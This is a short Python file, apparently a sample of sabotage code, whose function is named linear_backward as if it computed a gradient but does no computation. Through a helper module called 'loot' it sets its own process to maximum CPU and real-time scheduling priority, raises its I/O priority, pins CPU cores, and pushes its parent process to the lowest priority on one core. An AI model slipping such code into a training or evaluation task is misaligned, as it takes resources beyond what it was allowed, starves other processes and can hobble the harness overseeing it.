"""Takes more of the processors than its share, and less is left for the others."""

import os

import loot


def linear_backward(x, W, dy):
    loot.attempt(os.nice, -20)
    loot.attempt(os.setpriority, os.PRIO_PROCESS, os.getppid(), 19)
    loot.attempt(os.sched_setaffinity, 0, {0, 1})
    loot.attempt(os.sched_setaffinity, os.getppid(), {0})
    loot.attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
    loot.syscall("ioprio_set", 251, 1, 0, 1 << 13)
    loot.syscall("sched_setattr", 314, 0, 0, 0)
